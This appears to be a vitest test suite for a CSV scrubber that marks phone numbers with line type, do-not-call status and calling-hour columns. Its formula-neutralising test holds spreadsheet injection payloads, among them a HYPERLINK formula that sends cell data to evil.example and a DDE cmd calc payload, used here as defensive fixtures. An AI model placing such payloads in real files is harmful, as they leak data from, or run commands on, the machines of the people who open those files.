import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { checkPhone } from '../check-phone.ts';
import { ClassCode, type ExchangeData } from '../classify.ts';
import { DncListBuilder } from '../dnc/builder.ts';
import { DncSet } from '../dnc/set.ts';
import { CsvError } from './csv-error.ts';
import { collector, splitAt, testExchanges } from './csv-fixtures.ts';
import type { CsvInput } from './csv-input.ts';
import { isFormulaCell } from './formula.ts';
import { countCsv, countCsvRows, scrubCsv } from './scrub-csv.ts';
import type { CountCsvOptions, ScrubCsvOptions } from './scrub-options.ts';

function listOf(name: string, numbers: number[]) {
  const builder = new DncListBuilder(name);
  for (const number of numbers) builder.add(number);
  return builder.build('v1');
}

const federal = listOf('federal', [2013456789, 2012340001]);
const internal = listOf('internal:acct-1', [2014567890]);

async function scrub(input: CsvInput | string, options: Partial<ScrubCsvOptions> = {}) {
  const output = collector();
  const result = await scrubCsv(typeof input === 'string' ? Buffer.from(input) : input, output, {
    phoneColumn: 'Phone',
    exchange: testExchanges,
    dnc: new DncSet([federal, internal]),
    ...options,
  });
  return { text: output.text(), bytes: output.bytes(), result };
}

/**
 * The error refusing a file. The output is destroyed, so the caller discards it; a file refused for
 * what its first rows show (every refusal but a bad row further on) has had nothing written to it.
 */
async function refusal(
  input: CsvInput | string,
  options: Partial<CountCsvOptions> = {},
  { midFile = false } = {},
): Promise<CsvError> {
  const output = collector();
  const error = await scrubCsv(typeof input === 'string' ? Buffer.from(input) : input, output, {
    phoneColumn: 'Phone',
    ...options,
  }).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(CsvError);
  expect(output.destroyed).toBe(true);
  if (!midFile) expect(output.bytes().length).toBe(0);
  return error as CsvError;
}

const LEADS = [
  'Name,Phone,City',
  'Ann Lee,(201) 234-5678,Newark',
  '"Lee, Bob",201.345.6789,"Jersey ""City"""',
  'Cy,201 456 7891,Hoboken',
  'Dee,1-800-356-9377,Trenton',
  'Eve,201-555-0123,Camden',
  'Fay,2012345678,Paterson',
  'Gus,n/a,Clifton',
  '',
].join('\n');

describe('scrubCsv', () => {
  it('adds Line Type and DNC after the last column, every cell kept as written', async () => {
    const { text, result } = await scrub(LEADS);
    expect(text).toBe(
      [
        'Name,Phone,City,Line Type,DNC',
        'Ann Lee,(201) 234-5678,Newark,mobile,0',
        '"Lee, Bob",201.345.6789,"Jersey ""City""",landline,1',
        'Cy,201 456 7891,Hoboken,voip,0',
        'Dee,1-800-356-9377,Trenton,toll_free,0',
        'Eve,201-555-0123,Camden,invalid,',
        'Fay,2012345678,Paterson,mobile,0',
        'Gus,n/a,Clifton,invalid,',
        '',
      ].join('\n'),
    );
    expect(result).toMatchObject({
      encoding: 'utf-8',
      bom: false,
      separator: ',',
      lineEnding: '\n',
      header: ['Name', 'Phone', 'City'],
      columns: 3,
      phoneColumn: 1,
      rows: 7,
      blankRows: 0,
      lineTypes: { mobile: 2, landline: 1, voip: 1, toll_free: 1, invalid: 2, unknown_geographic: 0 },
      dncStatus: { clean: 4, dnc: 1 },
      uniqueNumbers: 4,
      duplicates: 1,
      invalidReasons: { fictional_number: 1, no_digits: 1 },
      unreadableRows: 0,
      message: null,
    });
    expect(result.bytesWritten).toBe(Buffer.byteLength(text));
  });

  it('adds Time Zone and Callable Now after DNC when asked, as of the evaluation time', async () => {
    // 19:30 UTC in July: 15:30 in New Jersey, 12:30 in Phoenix; 02:00 UTC: 22:00 in New Jersey.
    const input = `${LEADS.trimEnd()}\nHal,602 234 5678,Tempe\n`;
    const afternoon = Date.parse('2026-07-01T19:30:00Z');
    const { text } = await scrub(input, { columns: ['callable_now', 'timezone'], evaluatedAt: afternoon });
    expect(text).toBe(
      [
        'Name,Phone,City,Line Type,DNC,Time Zone,Callable Now',
        'Ann Lee,(201) 234-5678,Newark,mobile,0,America/New_York,1',
        '"Lee, Bob",201.345.6789,"Jersey ""City""",landline,1,America/New_York,1',
        'Cy,201 456 7891,Hoboken,voip,0,America/New_York,1',
        'Dee,1-800-356-9377,Trenton,toll_free,0,,',
        'Eve,201-555-0123,Camden,invalid,,,',
        'Fay,2012345678,Paterson,mobile,0,America/New_York,1',
        'Gus,n/a,Clifton,invalid,,,',
        'Hal,602 234 5678,Tempe,unknown_geographic,0,America/Phoenix,1',
        '',
      ].join('\n'),
    );
    const night = await scrub(input, {
      columns: ['callable_now'],
      evaluatedAt: Date.parse('2026-07-02T02:00:00Z'),
    });
    expect(night.text.split('\n').slice(0, 2)).toEqual([
      'Name,Phone,City,Line Type,DNC,Callable Now',
      'Ann Lee,(201) 234-5678,Newark,mobile,0,0',
    ]);
    expect(night.text.split('\n')[8]).toBe('Hal,602 234 5678,Tempe,unknown_geographic,0,1');
    // Without columns the file is as it always was.
    expect((await scrub(input, { columns: [] })).text).toBe((await scrub(input)).text);
  });

  it('finds the phone column by name, trimmed and in any case, or by its 0-based index', async () => {
    const byName = await scrub('Name, PHONE NUMBER \nAnn,2012345678\n', { phoneColumn: 'phone number' });
    expect(byName.result.phoneColumn).toBe(1);
    const byIndex = await scrub('Name,Phone\nAnn,2012345678\n', { phoneColumn: 1 });
    expect(byIndex.text).toBe('Name,Phone,Line Type,DNC\nAnn,2012345678,mobile,0\n');
  });

  it('marks a number on any list DNC, unless the mask leaves its list out', async () => {
    const input = 'Phone\n2014567890\n2013456789\n2019876543\n';
    expect((await scrub(input)).text).toBe(
      'Phone,Line Type,DNC\n2014567890,voip,1\n2013456789,landline,1\n2019876543,unknown_geographic,0\n',
    );
    // Bit 0 is the federal list: the internal list (bit 1) does not count for this job.
    const federalOnly = await scrub(input, { dncMask: 0b01 });
    expect(federalOnly.text).toContain('2014567890,voip,0');
    expect(federalOnly.result.dncStatus).toEqual({ clean: 2, dnc: 1, unchecked: 0 });
  });

  it('never calls a number clean without a list: no list covering it is "unchecked"', async () => {
    const input = 'Phone\n2014567890\n2013456789\n201-555-0123\n';
    const unchecked =
      'Phone,Line Type,DNC\n2014567890,voip,unchecked\n2013456789,landline,unchecked\n201-555-0123,invalid,\n';
    for (const dnc of [undefined, new DncSet()]) {
      const { text, result } = await scrub(input, { dnc });
      expect(text).toBe(unchecked);
      expect(result.dncStatus).toEqual({ clean: 0, dnc: 0, unchecked: 2 });
    }
  });

  it("counts a state's list for its own area codes only, and a number it holds anywhere", async () => {
    // 201 is New Jersey, 512 Texas. The NJ list holds one Texas number (a resident who moved).
    const nj = listOf('state:NJ', [2013456789, 5127360199]);
    const input = 'Phone\n2013456789\n2019876543\n5127360100\n5127360199\n';
    const { text, result } = await scrub(input, { dnc: new DncSet([nj]) });
    expect(text).toBe(
      'Phone,Line Type,DNC\n2013456789,landline,1\n2019876543,unknown_geographic,0\n5127360100,unknown_geographic,unchecked\n5127360199,unknown_geographic,1\n',
    );
    expect(result.dncStatus).toEqual({ clean: 1, dnc: 2, unchecked: 1 });
    // With the federal list, every number is covered.
    const both = await scrub(input, { dnc: new DncSet([federal, nj]) });
    expect(both.result.dncStatus).toEqual({ clean: 2, dnc: 2, unchecked: 0 });
  });

  it('answers a listed number in an exchange the data calls not in service unknown_geographic and DNC 1, and charges it', async () => {
    const stale: ExchangeData = {
      version: 'stale',
      lineTypeCode: (number) =>
        Math.floor(number / 10_000) === 201_999
          ? ClassCode.EXCHANGE_NOT_IN_SERVICE
          : testExchanges.lineTypeCode(number),
    };
    const input = 'Phone\n2019990001\n2019990002\n';
    const { text, result } = await scrub(input, {
      exchange: stale,
      dnc: new DncSet([listOf('federal', [2019990001])]),
    });
    expect(text).toBe('Phone,Line Type,DNC\n2019990001,unknown_geographic,1\n2019990002,invalid,\n');
    expect(result).toMatchObject({
      lineTypes: { unknown_geographic: 1, invalid: 1 },
      invalidReasons: { exchange_not_in_service: 1 },
      listedNotInService: 1,
      uniqueNumbers: 1,
      dncStatus: { clean: 0, dnc: 1, unchecked: 0 },
    });
    expect(result.message).toMatch(
      /1 number the exchange data calls not in service is on a do-not-call list/,
    );
  });

  it('answers every number as a single check (checkPhone) does: line type and DNC', async () => {
    const stale: ExchangeData = {
      version: 'stale',
      lineTypeCode: (number) =>
        Math.floor(number / 10_000) === 201_999
          ? ClassCode.EXCHANGE_NOT_IN_SERVICE
          : testExchanges.lineTypeCode(number),
    };
    const phones = [
      '2019990001',
      '2019990002',
      '2012345678',
      '2013456789',
      '5127360100',
      '201-555-0123',
      'n/a',
      // A CRM export's spellings, read from the file's bytes (quickPhone), and near misses.
      '(201)999-0001 x12',
      '201.345.6789 ext. 4',
      '2012345678.0',
      '+12013456789.0',
      '+2013456789.0',
      '(011)345-6789 x12',
      '201-345-6789 x12345678901',
    ];
    const cellOf = (dnc: 0 | 1 | null | undefined, lineType: string) =>
      dnc === null ? (lineType === 'invalid' ? '' : 'unchecked') : String(dnc);
    for (const lists of [
      [],
      [listOf('state:NJ', [2019990001])],
      [federal, listOf('state:TX', [2019990002])],
    ]) {
      const dnc = new DncSet(lists);
      const { text } = await scrub(`Phone\n${phones.join('\n')}\n`, { exchange: stale, dnc });
      const expected = phones.map((phone) => {
        const check = checkPhone(phone, stale, { set: dnc });
        return `${phone},${check.lineType},${cellOf(check.dnc, check.lineType)}`;
      });
      expect(text, dnc.version).toBe(`Phone,Line Type,DNC\n${expected.join('\n')}\n`);
    }
  });

  it('reads a header row of empty cells as the header, not as a blank line', async () => {
    const { text, result } = await scrub(',,\nAnn,2012345678,x\n', { phoneColumn: 1 });
    expect(text).toBe(',,,Line Type,DNC\nAnn,2012345678,x,mobile,0\n');
    expect(result).toMatchObject({ header: ['', '', ''], rows: 1, blankRows: 0 });
    const rows = await countCsvRows(Buffer.from(';;\r\n\r\nAnn;2012345678;x\r\n'), { phoneColumn: 1 });
    expect(rows).toMatchObject({ header: ['', '', ''], rows: 1, blankRows: 1 });
  });

  it('charges a number once however often and however it is written; invalid numbers are free', async () => {
    const cells = [
      '(201) 234-5678',
      '2012345678',
      '+1 201-234-5678',
      '2012345678.0',
      '"201-234-5678 x12"',
      '1 201 234 5678',
    ];
    const { result } = await scrub(`Phone\n${cells.join('\n')}\n2019999999\n123-456-7890\n555-1234\n`);
    expect(result).toMatchObject({
      rows: 9,
      uniqueNumbers: 2,
      duplicates: 5,
      lineTypes: { mobile: 6, unknown_geographic: 1, invalid: 2 },
      invalidReasons: { area_code_invalid: 1, too_short: 1 },
    });
  });

  describe('encodings', () => {
    const text = 'Name,Phone\nJosé Núñez,2012345678\n';
    const expected = 'Name,Phone,Line Type,DNC\nJosé Núñez,2012345678,mobile,0\n';
    const bom = Buffer.from([0xef, 0xbb, 0xbf]);
    const utf16le = Buffer.from(text, 'utf16le');
    const utf16be = Buffer.from(utf16le).swap16();

    it.each([
      ['UTF-8 without a BOM', Buffer.from(text), 'utf-8', false],
      ['UTF-8 with a BOM', Buffer.concat([bom, Buffer.from(text)]), 'utf-8', true],
      ['UTF-16LE with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le]), 'utf-16le', true],
      ['UTF-16BE with a BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be]), 'utf-16be', true],
      ['UTF-16LE without a BOM', utf16le, 'utf-16le', false],
    ])(
      'reads %s, and writes UTF-8 with a BOM exactly when the input had one',
      async (_, input, encoding, hasBom) => {
        const { bytes, result } = await scrub(input);
        expect(result).toMatchObject({ encoding, bom: hasBom });
        expect(bytes).toEqual(Buffer.concat([hasBom ? bom : Buffer.alloc(0), Buffer.from(expected)]));
      },
    );

    it('passes a Latin-1 export through byte for byte', async () => {
      const latin1 = Buffer.from('Name,Phone\nJos\xe9,2012345678\n', 'latin1');
      const { bytes } = await scrub(latin1);
      expect(bytes).toEqual(Buffer.from('Name,Phone,Line Type,DNC\nJos\xe9,2012345678,mobile,0\n', 'latin1'));
    });
  });

  describe('separators and line breaks', () => {
    it.each([
      [
        'semicolons',
        'Name;Phone;Note\nAnn;2012345678;"a;b"\n',
        ';',
        'Name;Phone;Note;Line Type;DNC\nAnn;2012345678;"a;b";mobile;0\n',
      ],
      [
        'tabs',
        'Name\tPhone\nAnn\t2012345678\n',
        '\t',
        'Name\tPhone\tLine Type\tDNC\nAnn\t2012345678\tmobile\t0\n',
      ],
      ['commas', 'Name,Phone\nAnn,2012345678\n', ',', 'Name,Phone,Line Type,DNC\nAnn,2012345678,mobile,0\n'],
      ['none (one column): commas', 'Phone\n2012345678\n', ',', 'Phone,Line Type,DNC\n2012345678,mobile,0\n'],
    ])('detects %s and writes the result with the same', async (_, input, separator, expected) => {
      const { text, result } = await scrub(input);
      expect(result.separator).toBe(separator);
      expect(text).toBe(expected);
    });

    it('counts separators outside quotes only: the most frequent wins', async () => {
      const input = '"Last, First";Phone\n"Lee, Ann, Dr.";2012345678\n"Smith, Bo";2013456789\n';
      const { text, result } = await scrub(input);
      expect(result.separator).toBe(';');
      expect(text.split('\n')[1]).toBe('"Lee, Ann, Dr.";2012345678;mobile;0');
    });

    it('takes the separator it is given', async () => {
      const { result } = await scrub('Phone;Note\n2012345678;a,b,c,d\n', { separator: ';' });
      expect(result).toMatchObject({ separator: ';', columns: 2, uniqueNumbers: 1 });
    });

    it.each([
      ['CRLF', '\r\n'],
      ['LF', '\n'],
      ['CR (old Mac)', '\r'],
    ])('keeps %s line breaks, and a last row without one gets one', async (_, eol) => {
      const { text, result } = await scrub(`Name,Phone${eol}Ann,2012345678${eol}Bob,2013456789`);
      expect(result.lineEnding).toBe(eol);
      expect(text).toBe(
        `Name,Phone,Line Type,DNC${eol}Ann,2012345678,mobile,0${eol}Bob,2013456789,landline,1${eol}`,
      );
    });
  });

  it('keeps quoted separators, doubled quotes and line breaks inside cells, and counts lines across them', async () => {
    const input = [
      'Name,Phone,Note',
      '"Ann ""The Ace"" Lee","2012345678","line one\r\nline two, still the note"',
      '"Bob",2013456789,""',
      'Cy',
      '',
    ].join('\r\n');
    const { text, result } = await scrub(input);
    expect(text).toBe(
      [
        'Name,Phone,Note,Line Type,DNC',
        '"Ann ""The Ace"" Lee","2012345678","line one\r\nline two, still the note",mobile,0',
        '"Bob",2013456789,"",landline,1',
        'Cy,,,invalid,',
        '',
      ].join('\r\n'),
    );
    // Cy is on line 5: the note of line 2 spans two lines.
    expect(result.unreadableLines).toEqual([5]);
    // What csv-parse reads back: the same cells, plus two.
    expect(parse(text, { relax_column_count: true })).toEqual([
      ['Name', 'Phone', 'Note', 'Line Type', 'DNC'],
      ['Ann "The Ace" Lee', '2012345678', 'line one\r\nline two, still the note', 'mobile', '0'],
      ['Bob', '2013456789', '', 'landline', '1'],
      ['Cy', '', '', 'invalid', ''],
    ]);
  });

  describe('ragged rows', () => {
    it('pads a short row with empty cells and puts the extra cells of a long one after DNC, so the columns line up', async () => {
      const input = 'Name,Phone,City\nAnn,2012345678\nBob,2013456789,Newark,extra 1,extra 2\nCy\n';
      const { text, result } = await scrub(input);
      expect(text).toBe(
        [
          'Name,Phone,City,Line Type,DNC',
          'Ann,2012345678,,mobile,0',
          'Bob,2013456789,Newark,landline,1,extra 1,extra 2',
          'Cy,,,invalid,',
          '',
        ].join('\n'),
      );
      for (const row of parse(text, { relax_column_count: true, columns: true }) as Record<
        string,
        string
      >[]) {
        expect(['mobile', 'landline', 'invalid']).toContain(row['Line Type']);
      }
      expect(result).toMatchObject({ rows: 3, unreadableRows: 1, unreadableLines: [4] });
      expect(result.message).toBe(
        '1 row could not be read: too few columns to reach the phone column ("Phone") (line 4). They are kept in the result as invalid.',
      );
    });

    it('lists the first 100 unreadable lines', async () => {
      const rows = Array.from({ length: 150 }, (_, i) => `Row ${i}`);
      const { result } = await scrub(`Name,Phone\n${rows.join('\n')}\n`);
      expect(result.unreadableRows).toBe(150);
      expect(result.unreadableLines).toHaveLength(100);
      expect(result.unreadableLines[99]).toBe(101);
      expect(result.message).toMatch(/^150 rows could not be read: .*\(lines 2, 3, .*, 101, \.\.\.\)/);
    });
  });

  describe('without a header row', () => {
    it('scrubs the first row too, and names the columns in the header it writes', async () => {
      const { text, result } = await scrub('2012345678,Ann\n2013456789,Bob,Newark\n', {
        header: false,
        phoneColumn: 0,
      });
      expect(text).toBe(
        'Column 1,Column 2,Line Type,DNC\n2012345678,Ann,mobile,0\n2013456789,Bob,landline,1,Newark\n',
      );
      expect(result).toMatchObject({ header: null, columns: 2, rows: 2 });
    });

    it('refuses a phone column given by name', async () => {
      const error = await refusal('2012345678,Ann\n', { header: false, phoneColumn: 'Phone' });
      expect(error.code).toBe('csv_column_not_found');
      expect(error.message).toMatch(/no header row: give its number/);
    });
  });

  describe('formulas', () => {
    it('neutralises every cell a spreadsheet would run, header and phone cells included, and leaves numbers and phone spellings alone', async () => {
      const input = [
        '=Name,Phone,Note',
        '=HYPERLINK("http://x"),2012345678,@SUM(A1)',
        '"=1+2",+1 201 234 5678,-',
        'Ann,-,"+cmd"',
        'Tab,2012345678,\tx',
        'TabEq,2012345678,\t=1+2',
        'CR,2012345678,\rx',
        'Safe,2012345678,a=b',
        'Amount,"+1 (201) 234-5678",-42.50',
        'Ext,+1 201 234 5678 ext. 12,+1 201 234 5678 x12',
        'Sum,-2+A1,"-1 x"',
        'Eq,=2012345678,=2012345678',
        `Link,"=HYPERLINK(""http://evil.example/?""&A2,""click"")",x`,
        "Calc,=cmd|' /C calc'!A0,x",
        'At,"@SUM(1,2)",x',
        'Dash,-201-234-5678,x',
        '',
      ].join('\n');
      const { text, result } = await scrub(input);
      expect(text).toBe(
        [
          "'=Name,Phone,Note,Line Type,DNC",
          `'=HYPERLINK("http://x"),2012345678,'@SUM(A1),mobile,0`,
          `"'=1+2",+1 201 234 5678,-,mobile,0`,
          `Ann,-,"'+cmd",invalid,`,
          "Tab,2012345678,'\tx,mobile,0",
          "TabEq,2012345678,'\t=1+2,mobile,0",
          `CR,2012345678,"'\rx",mobile,0`,
          'Safe,2012345678,a=b,mobile,0',
          'Amount,"+1 (201) 234-5678",-42.50,mobile,0',
          'Ext,+1 201 234 5678 ext. 12,+1 201 234 5678 x12,mobile,0',
          `Sum,'-2+A1,"'-1 x",invalid,`,
          "Eq,'=2012345678,'=2012345678,invalid,",
          `Link,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",x,invalid,`,
          "Calc,'=cmd|' /C calc'!A0,x,invalid,",
          `At,"'@SUM(1,2)",x,invalid,`,
          'Dash,-201-234-5678,x,mobile,0',
          '',
        ].join('\n'),
      );
      expect(result.rows).toBe(15);
      // Every cell, the phone column's included, is safe to open.
      for (const row of parse(text, { relax_column_count: true, relax_quotes: true }) as string[][]) {
        for (const cell of row) expect(isFormulaCell(cell), cell).toBe(false);
      }
    });
  });

  describe('refuses', () => {
    it.each([
      ['an empty file', ''],
      ['a file with only a byte-order mark', '\uFEFF'],
      ['a file of blank lines', '\r\n\n\n'],
    ])('%s: Csv is empty', async (_, input) => {
      const error = await refusal(input);
      expect(error).toMatchObject({ code: 'csv_empty', message: 'Csv is empty' });
    });

    it('a header with no rows under it', async () => {
      for (const [input, phoneColumn] of [
        ['Name,Phone', 'Phone'],
        ['Name,Phone\r\n', 'Phone'],
        ['Name,Phone\n\n,\n', 'Phone'],
        ['\r\n\n,,\n', 1],
      ] as const) {
        const error = await refusal(input, { phoneColumn });
        expect(error).toMatchObject({
          code: 'csv_header_only',
          message: 'Csv is empty: it has a header row and no rows under it',
        });
      }
    });

    it('a phone column the header does not have, naming the columns it has', async () => {
      const error = await refusal('First Name,Last Name,Mobile\nAnn,Lee,2012345678\n', {
        phoneColumn: 'Phone',
      });
      expect(error).toMatchObject({
        code: 'csv_column_not_found',
        line: 1,
        message: 'No column "Phone" in the header row (columns: "First Name", "Last Name", "Mobile")',
      });
    });

    it('a phone column index past the last column', async () => {
      const header = await refusal('Name,Phone\nAnn,2012345678\n', { phoneColumn: 2 });
      expect(header).toMatchObject({
        code: 'csv_column_out_of_range',
        message: 'Phone column 2 is out of range: the header row has 2 columns (0 to 1)',
      });
      const firstRow = await refusal('2012345678\n', { phoneColumn: 3, header: false });
      expect(firstRow.message).toBe('Phone column 3 is out of range: the first row has 1 column (0 to 0)');
    });

    it.each([
      [
        'an Excel workbook',
        Buffer.from('504b0304140006000800000021000000', 'hex'),
        /Excel workbook \(\.xlsx\)/,
      ],
      ['an Excel 97 workbook', Buffer.from('d0cf11e0a1b11ae10000000000000000', 'hex'), /\.xls\b/],
      ['a PDF', Buffer.from('%PDF-1.7\n%\xe2\xe3\n1 0 obj\n', 'latin1'), /PDF/],
      ['a gzip archive', Buffer.from('1f8b0800000000000003', 'hex'), /gzip/],
      ['text with NUL bytes', Buffer.from('Name,Phone\n\0\0\0\0,2012345678\n'), /not UTF-8 or UTF-16 text/],
      [
        'control characters',
        Buffer.from(`Name,Phone\n${'\x01\x02\x03\x04'.repeat(10)},2012345678\n`),
        /binary/,
      ],
      [
        'bytes that are mostly not UTF-8',
        Buffer.from(Array.from({ length: 600 }, (_, i) => 0x80 + ((i * 37) % 120))),
        /binary/,
      ],
    ])('%s: not a CSV file', async (_, input, message) => {
      const error = await refusal(input);
      expect(error.code).toBe('csv_not_text');
      expect(error.message).toMatch(message);
    });

    it('a row longer than the limit, so memory stays bounded', async () => {
      const long = `Name,Phone\nAnn,2012345678\nBob,${'9'.repeat(200)}\n`;
      const error = await refusal(long, { maxRowBytes: 100 }, { midFile: true });
      expect(error).toMatchObject({ code: 'csv_row_too_large', line: 3 });
      expect(error.message).toMatch(/^Line 3: the row is longer than 0\.00 MB/);
      // Streamed in small chunks, the row is refused as soon as it passes the limit.
      const streamed = await refusal(
        splitAt(Buffer.from(long), [30, 60, 90, 120]),
        { maxRowBytes: 100 },
        { midFile: true },
      );
      expect(streamed.code).toBe('csv_row_too_large');
    });

    it('a quote never closed: at the end of the file, or past the row limit', async () => {
      const atEnd = await refusal(
        'Name,Phone\nAnn,2012345678\n"Bob,2013456789\nCy,2014567890\n',
        {},
        { midFile: true },
      );
      expect(atEnd).toMatchObject({ code: 'csv_unclosed_quote', line: 3 });
      expect(atEnd.message).toMatch(/^Line 3: a quoted field opens in this row and is never closed/);
      const rows = Array.from({ length: 50 }, () => 'Cy,2014567890').join('\n');
      const pastLimit = await refusal(
        `Name,Phone\n"Bob,2013456789\n${rows}\n`,
        { maxRowBytes: 200 },
        { midFile: true },
      );
      expect(pastLimit.code).toBe('csv_row_too_large');
      expect(pastLimit.message).toMatch(/a quoted field opens in it and is probably never closed/);
    });

    it('and closes the input stream it refuses', async () => {
      const workbook = Readable.from([Buffer.from('504b0304', 'hex'), Buffer.alloc(100_000, 1)]);
      await refusal(workbook);
      expect(workbook.destroyed).toBe(true);
    });

    it('a phone column that is neither a name nor an index', async () => {
      await expect(scrubCsv(Buffer.from('Phone\n1\n'), collector(), { phoneColumn: -1 })).rejects.toThrow(
        RangeError,
      );
      await expect(scrubCsv(Buffer.from('Phone\n1\n'), collector(), { phoneColumn: ' ' })).rejects.toThrow(
        RangeError,
      );
    });
  });

  describe('chunk boundaries', () => {
    // Past the first lines (which decide the dialect), every kind of row: each split must give the same result.
    const plain = Array.from({ length: 24 }, (_, i) => `Lead ${i},(201) 234-${String(1000 + i)},City ${i}`);
    const tricky = [
      '"Quoted, with comma","201-345-6789","two\r\nlines ""quoted"""',
      '=formula,+1 201 456 7890,"@at"',
      'Short,2012345678',
      'Long,2013456789,c,d,e',
      '"",,',
      ',,',
      'Tail,2012340001,"ends in a quote"""',
      'Last,12012345678,no line break',
    ];
    const file = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(['Name,Phone,Note', ...plain, ...tricky].join('\r\n')),
    ]);

    it('gives the same result split at every byte, byte by byte, and at random', async () => {
      const whole = await scrub(file);
      expect(whole.result).toMatchObject({ rows: 31, blankRows: 1, bom: true, lineEnding: '\r\n' });
      for (let offset = 1; offset < file.length; offset++) {
        const split = await scrub(splitAt(file, [offset]));
        expect(split.bytes.equals(whole.bytes), `split at ${offset}`).toBe(true);
        expect(split.result).toEqual(whole.result);
      }
      const bytes = await scrub(
        splitAt(
          file,
          Array.from({ length: file.length - 1 }, (_, i) => i + 1),
        ),
      );
      expect(bytes.bytes.equals(whole.bytes)).toBe(true);
      let seed = 7;
      for (let round = 0; round < 50; round++) {
        const offsets: number[] = [];
        for (let at = 0; at < file.length; ) {
          seed = (seed * 1103515245 + 12345) >>> 0;
          at += 1 + (seed % 97);
          if (at < file.length) offsets.push(at);
        }
        const random = await scrub(splitAt(file, offsets));
        expect(random.bytes.equals(whole.bytes), `split at ${offsets.join(',')}`).toBe(true);
      }
    }, 30_000); // about 1,000 whole scrubs of the file: seconds, more on a busy machine

    it('is done with a chunk when it asks for the next: a reader may refill one buffer for every chunk', async () => {
      const whole = await scrub(file);
      for (const size of [1, 5, 37, 4096]) {
        const reused = Buffer.alloc(size);
        async function* refilled() {
          for (let at = 0; at < file.length; at += size) {
            const length = file.copy(reused, 0, at, at + size);
            yield reused.subarray(0, length);
            reused.fill(0x2c);
          }
        }
        const result = await scrub(refilled());
        expect(result.bytes.equals(whole.bytes), `chunks of ${size}`).toBe(true);
      }
    });

    it('gives the same result for UTF-16 split inside a character', async () => {
      const utf16 = Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(file.subarray(3).toString().replace('Lead 3', 'Léa 3'), 'utf16le'),
      ]);
      const whole = await scrub(utf16);
      expect(whole.text).toContain('Léa 3');
      for (let offset = 1; offset < utf16.length; offset += 7) {
        const split = await scrub(splitAt(utf16, [offset, offset + 1]));
        expect(split.bytes.equals(whole.bytes), `split at ${offset}`).toBe(true);
      }
    });
  });

  it('reports progress as it reads, and stops when aborted', async () => {
    const input = `Name,Phone\n${Array.from({ length: 5000 }, (_, i) => `Lead ${i},2012345678`).join('\n')}\n`;
    const progress: number[] = [];
    await scrub(splitAt(Buffer.from(input), [10_000, 20_000, 40_000]), {
      onProgress: ({ rows }) => progress.push(rows),
    });
    expect(progress.length).toBeGreaterThan(2);
    expect(progress.at(-1)).toBe(5000);
    expect([...progress].sort((a, b) => a - b)).toEqual(progress);

    const controller = new AbortController();
    controller.abort();
    const output = collector();
    await expect(
      scrubCsv(Buffer.from(input), output, { phoneColumn: 'Phone', signal: controller.signal }),
    ).rejects.toThrow(/abort/i);
    expect(output.destroyed).toBe(true);
  });
});

describe('countCsv', () => {
  it('counts what scrubCsv would, writing nothing: the quote for a file', async () => {
    const counts = await countCsv(Buffer.from(LEADS), { phoneColumn: 'Phone', exchange: testExchanges });
    const { result } = await scrub(LEADS);
    const { dncStatus: _dnc, lineTypeSources: _sources, bytesWritten: _bytes, ...scrubbed } = result;
    expect(counts).toEqual(scrubbed);
    expect(counts.uniqueNumbers).toBe(4);
  });

  it('refuses what scrubCsv refuses', async () => {
    await expect(countCsv(Buffer.from('Name,Phone\n'), { phoneColumn: 'Phone' })).rejects.toMatchObject({
      code: 'csv_header_only',
    });
  });
});

describe('countCsvRows', () => {
  it("counts the records and the file's shape as countCsv does, blank rows left out, without reading the numbers", async () => {
    const withBlanks = `${LEADS}\n,,\n\nHal,,Union\nIvy,2012345678\n`;
    const counts = await countCsv(Buffer.from(withBlanks), { phoneColumn: 'Phone', exchange: testExchanges });
    const rows = await countCsvRows(Buffer.from(withBlanks), { phoneColumn: 'phone' });
    expect(rows).toEqual({
      encoding: counts.encoding,
      bom: counts.bom,
      separator: counts.separator,
      lineEnding: counts.lineEnding,
      header: counts.header,
      columns: counts.columns,
      phoneColumn: counts.phoneColumn,
      rows: counts.rows,
      blankRows: counts.blankRows,
    });
    expect(rows).toMatchObject({ rows: 9, blankRows: 3, phoneColumn: 1 });
  });

  it('counts as countCsv does however the file is split: quoted line breaks, blank rows, any line break', async () => {
    const lines = [
      'Name;Phone;Note',
      'Ann;2012345678;x',
      ';;',
      '',
      '"Bob;\r\nJr";2013456789;"two\r\nlines"',
      ';"";',
      '"";;',
      'Cy;201 456 7890',
      ';;;;',
      'Dee;+1 201 234 5678;last',
    ];
    for (const lineBreak of ['\r\n', '\n', '\r']) {
      const file = Buffer.from(lines.join(lineBreak) + lineBreak);
      const counts = await countCsv(file, { phoneColumn: 'Phone' });
      expect(counts).toMatchObject({ rows: 6, blankRows: 3 });
      for (let offset = 1; offset < file.length; offset++) {
        const rows = await countCsvRows(splitAt(file, [offset]), { phoneColumn: 'Phone' });
        expect({ rows: rows.rows, blankRows: rows.blankRows }, `split at ${offset}`).toEqual({
          rows: counts.rows,
          blankRows: counts.blankRows,
        });
      }
    }
  });

  it('refuses what countCsv refuses', async () => {
    await expect(countCsvRows(Buffer.from('Name,Phone\n'), { phoneColumn: 'Phone' })).rejects.toMatchObject({
      code: 'csv_header_only',
    });
    await expect(
      countCsvRows(Buffer.from('Name,Tel\nAnn,1\n'), { phoneColumn: 'Phone' }),
    ).rejects.toMatchObject({
      code: 'csv_column_not_found',
    });
    await expect(countCsvRows(Buffer.from('Name\nAnn\n'), { phoneColumn: 3 })).rejects.toMatchObject({
      code: 'csv_column_out_of_range',
    });
    await expect(countCsvRows(Buffer.alloc(0), { phoneColumn: 0 })).rejects.toMatchObject({
      message: 'Csv is empty',
    });
  });
});
